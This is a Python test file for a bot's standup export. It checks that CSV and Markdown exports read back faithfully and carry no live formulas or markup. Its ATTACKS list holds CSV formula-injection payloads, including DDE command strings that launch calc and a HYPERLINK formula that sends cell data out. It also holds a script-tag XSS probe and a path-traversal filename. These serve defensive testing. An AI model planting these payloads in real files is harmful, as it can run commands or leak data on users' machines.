"""The exported files: read back to what was written, and nothing in them runs or is markup."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, time, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.messages import Attachment
from bot.people import AccountRef, ChannelRef, MemberRef, Person, Roster
from bot.rituals.questions import Kind, Question
from bot.rituals.reading import ReadDay
from bot.rituals.schedule import WEEKDAYS, Schedule
from bot.rituals.standup import Occurrence, Participant, Standup, State
from bot.text import render
from bot.views import standup_export as export

TUESDAY = date(2026, 11, 24)
NOON = datetime(2026, 11, 24, 12, tzinfo=UTC)
QUESTIONS = (
    Question("What will you do today?"),
    Question("Anything in your way?", Kind.BLOCKERS),
    Question("How are you?", Kind.MOOD),
    Question("How many runs?", Kind.NUMBER),
)
ANA = Person(MemberRef("ana"), AccountRef("UANA"), "Ana", "Europe/Paris")
BO = Person(MemberRef("bo"), AccountRef("UBO"), "Bo", "Europe/Paris")

# What spreadsheets have been made to run, by OWASP's list and by reports since.
ATTACKS = [
    "=1+1",
    '=HYPERLINK("https://example.org?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{RIGHT-TO-LEFT OVERRIDE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "'=1+1",
    "''=1+1",
    "-",
    "-1-1",
    '"=1+1',
    "x;=1+1",
    'x";=1+1',
    "x,=1+1",
    "x\r\n=1+1",
]
RUNS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")

texts = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=60),
    st.text("=+-@\t\r\n'\" ;,1\N{RIGHT-TO-LEFT MARK}\N{HEBREW LETTER ALEF}", max_size=8),
)


def standup(name: str = "Churn model") -> Standup:
    schedule = Schedule("Europe/Paris", WEEKDAYS, time(9, 30), time(18))
    return Standup("s1", 3, ChannelRef("C1"), name, schedule, QUESTIONS, (), ANA.ref)


def answered(
    person: Person, *answers: str, late: bool = False, edited: bool = False
) -> tuple[Person, Participant]:
    return person, Participant(
        person.ref, NOON, state=State.ANSWERED, answers=answers, answered_at=NOON, late=late, edited=edited
    )  # fmt: skip


def a_day(
    *people: tuple[Person, Participant],
    closed: bool = False,
    questions: tuple[Question, ...] = QUESTIONS,
) -> ReadDay:
    wrap_at = NOON + timedelta(hours=5)
    occurrence = Occurrence("d1", "s1", TUESDAY, "Churn model", questions, NOON, wrap_at, wrap_at)
    done = sum(one.state is State.ANSWERED for _, one in people)
    return ReadDay(occurrence, people, done, 5, closed)


def table(text: str) -> list[dict[str, str]]:
    """The file as a program reads it, with the safe cells as they were."""
    data = text.encode()
    rows = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [{name: export.read_cell(cell) for name, cell in row.items()} for row in rows]


def shown(markdown: str) -> str:
    """What a reader of Markdown shows, without its markup."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    inline = [token for token in tokens if token.type == "inline"]
    kinds = {child.type for token in inline for child in token.children or ()}
    assert kinds <= {"text", "text_special", "strong_open", "strong_close", "softbreak"}, kinds
    blocks = {token.type for token in tokens}
    assert not blocks & {
        "html_block",
        "code_block",
        "fence",
        "hr",
        "blockquote_open",
        "table_open",
        "ordered_list_open",
    }
    return "\n".join("".join(child.content for child in token.children or ()) for token in inline)


def test_a_row_for_each_answer_and_for_whoever_gave_none() -> None:
    day = a_day(
        answered(ANA, "Calibrate", "No GPU\nNo reviewer", "4", "-2.5", late=True, edited=True),
        (BO, Participant(BO.ref, NOON, state=State.SKIPPED)),
    )
    text = export.as_csv(standup(), [day])
    nothing = dict.fromkeys(("late", "edited", "question", "kind", "answer"), "")
    both = {"day": "2026-11-24", "standup": "Churn model #3"}
    ana = {**both, "person": "Ana", "state": "answered", "late": "yes", "edited": "yes"}
    assert table(text) == [
        {**ana, "question": "What will you do today?", "kind": "text", "answer": "Calibrate"},
        {**ana, "question": "Anything in your way?", "kind": "blockers", "answer": "No GPU\nNo reviewer"},
        {**ana, "question": "How are you?", "kind": "mood", "answer": "4"},
        {**ana, "question": "How many runs?", "kind": "number", "answer": "-2.5"},
        {**both, **nothing, "person": "Bo", "state": "skipped"},
    ]  # fmt: skip
    assert '"-2.5"' in text, "a negative number stays a number"
    assert text.count("\r\n") == 6


def test_a_day_that_is_not_for_the_asker_has_a_row_of_its_count() -> None:
    (row,) = table(export.as_csv(standup(), [a_day(closed=True)]))
    assert (row["person"], row["state"], row["answer"]) == ("", "0 of 5 answered", "")


def test_somebody_whose_words_were_erased_still_counts_as_having_answered() -> None:
    (row,) = table(export.as_csv(standup(), [a_day(answered(ANA, "", "", "", ""))]))
    assert (row["person"], row["state"], row["answer"]) == ("Ana", "answered", "")


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula(attack: str) -> None:
    person = Person(ANA.ref, ANA.account, attack, "UTC")
    question = (Question(attack or "?"),)
    text = export.as_csv(standup(attack), [a_day(answered(person, attack), questions=question)])
    cells = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    for cell in (cell for cells_of_row in cells for cell in cells_of_row if cell):
        assert cell[0] not in RUNS
        assert cell.lstrip(" \u00a0\u200b\u202e")[:1] not in RUNS
    (row,) = table(text)
    assert (row["person"], row["question"], row["answer"]) == (attack, attack, attack)


@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=5), texts)
def test_the_table_reads_back_to_what_was_written(said: list[tuple[str, str]], name: str) -> None:
    day = a_day(*(answered(Person(ANA.ref, ANA.account, who, "UTC"), text) for who, text in said))
    rows = table(export.as_csv(standup(name), [day]))
    assert [(row["person"], row["answer"]) for row in rows] == said
    assert {row["standup"] for row in rows} == {f"{name} #3"}


@given(texts)
def test_a_cell_is_safe_and_comes_back(text: str) -> None:
    assert export.read_cell(export.cell(text)) == text
    safe = export.cell(text)
    assert safe[:1] not in RUNS or (safe == text and text[1:].replace(".", "", 1).isdigit())


MARKUP = [
    "# heading",
    "*bold* _it_ ~~gone~~ `code`",
    "- item",
    "1. item",
    "12) item",
    "    code",
    "```\nfence\n```",
    "---",
    "===",
    "> quote",
    "<script>alert(1)</script>",
    "<https://example.org>",
    "[a](https://example.org)",
    "![a](https://example.org/x.png)",
    "&copy; &#64; &",
    "a | b\n--|--\n1 | 2",
    "back\\slash \\*",
    "@ana #12 $x$ https://example.org/a_b",
    "line\r\n\r\nline",
    "\N{RIGHT-TO-LEFT OVERRIDE}\N{HEBREW LETTER ALEF}*x*",
    "**",
    "+ item",
]


@pytest.mark.parametrize("text", MARKUP)
def test_what_people_wrote_is_never_markup(text: str) -> None:
    person = Person(ANA.ref, ANA.account, text, "UTC")
    questions = (Question(text), Question("Anything?", Kind.BLOCKERS))
    day = a_day(answered(person, text, text), questions=questions)
    read = shown(export.as_markdown(standup(text), TUESDAY, TUESDAY, [day]))
    for line in text.splitlines():
        assert " ".join(line.split()) in read


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=60))
def test_every_text_is_shown_as_it_was_written(text: str) -> None:
    plain = " ".join(text.split())
    assert shown(f"- {export.escaped(text)}").strip() == plain.strip()


def test_the_days_read_as_chapters() -> None:
    day = a_day(
        answered(ANA, "Calibrate", "No GPU\nNo reviewer", "4", "12", late=True),
        (BO, Participant(BO.ref, NOON, state=State.AWAY)),
    )
    text = export.as_markdown(standup(), date(2026, 10, 26), TUESDAY, [day])
    assert text == (
        "# Churn model \\#3\n\nMon 26 Oct 2026 to Tue 24 Nov 2026\n\n"
        "## Tue 24 Nov 2026: 1 of 5 answered\n\n"
        "### Ana (late)\n\n"
        "**What will you do today?**\n\n- Calibrate\n\n"
        "**Anything in your way?**\n\n- No GPU\n- No reviewer\n\n"
        "**How are you?**\n\n- 🙂 good\n\n"
        "**How many runs?**\n\n- 12\n\n"
        "Not answered: Bo (away)\n"
    )


def test_both_files_are_named_after_the_standup_and_its_days() -> None:
    def names(name: str) -> list[str]:
        message = export.exported(standup(name), TUESDAY, TUESDAY, [a_day()])
        return [block.name for block in message.blocks if isinstance(block, Attachment)]

    span = "2026-11-24-to-2026-11-24"
    assert names("Équipe: ../churn") == [f"equipe-churn-{span}.csv", f"equipe-churn-{span}.md"]
    assert names("数据 / \0") == [f"standup-3-{span}.csv", f"standup-3-{span}.md"]


def test_whoever_gets_counts_only_is_told_so() -> None:
    whole = export.exported(standup(), TUESDAY, TUESDAY, [a_day()])
    closed = export.exported(standup(), TUESDAY, TUESDAY, [a_day(closed=True)])
    assert "you get the count" not in render(whole, Roster())
    assert "you get the count" in render(closed, Roster())
